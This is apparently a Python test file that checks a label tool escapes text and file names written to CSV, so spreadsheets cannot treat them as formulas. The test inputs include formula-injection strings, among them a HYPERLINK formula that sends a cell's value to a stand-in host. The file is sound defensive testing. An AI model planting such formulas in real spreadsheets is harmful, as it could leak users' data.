"""What a spreadsheet would take for a formula."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ahfal_app.errors import ConfigError
from ahfal_app.labels.formulas import file_cell, plain_file, plain_text, text_cell
from ahfal_app.labels.names import ClassNames, SampleNames
from ahfal_app.labels.spreadsheet import read_csv, write_csv

#: Letters of which few make a formula, or one of our own marks.
TEXTS = st.text(alphabet="=+-@'\t\r\n,;.a1/", max_size=8)
NAMES = TEXTS.filter(lambda name: not name.startswith("./"))

_FORMULA = re.compile(r"(?:\A|[,;\t])[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?\d*\.?\d*")


@given(TEXTS)
def test_no_text_is_a_formula_and_each_is_read_back(text: str):
    cell = text_cell(text)
    assert _NUMBER.fullmatch(cell) or not _FORMULA.search(cell)
    assert plain_text(cell) == text


@given(NAMES)
def test_no_file_is_a_formula_and_each_is_read_back(name: str):
    cell = file_cell(name)
    assert not _FORMULA.search(cell)
    assert plain_file(cell) == name
    assert SampleNames({name: 1, cell.removeprefix("./"): 2} | {name: 1}).find(cell) == {1}


@given(st.lists(NAMES, min_size=2, max_size=2, unique=True))
def test_no_files_cell_is_the_name_of_another_file(names: list[str]):
    first, second = names
    assert file_cell(first) != second
    assert SampleNames({first: 1, second: 2}).find(file_cell(first)) == {1}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://example.invalid/?"&A1)',
            '\'=HYPERLINK("http://example.invalid/?"&A1)',
        ),
        ("-0.25", "-0.25"),
        ("+1e-05", "+1e-05"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("dark;=1+1", "dark;'=1+1"),
        ("'quoted'", "'quoted'"),
        ("'=1", "''=1"),
        ("", ""),
    ],
)
def test_texts_as_cells(text: str, cell: str):
    assert text_cell(text) == cell


def test_files_are_written_and_read_so(tmp_path: Path):
    rows = [["=1.png", "=2"], ["'=1.png", "'=2"], ["a;=b.png", "a;=b"], ["plain.png", "-3"]]
    write_csv(tmp_path / "x.csv", ("file", "reason"), rows)
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell.startswith("=")] == []
    assert read_csv(tmp_path / "x.csv") == [["file", "reason"], *rows]


def test_classes_of_such_names_are_understood():
    names = ClassNames(["-", "+", "=cat"])
    assert [names.index(text_cell(name)) for name in ("-", "+", "=cat")] == [0, 1, 2]
    with pytest.raises(ConfigError, match=r"classes='=cat'.*no other class \"'=cat\""):
        ClassNames(["=cat", "'=cat"])
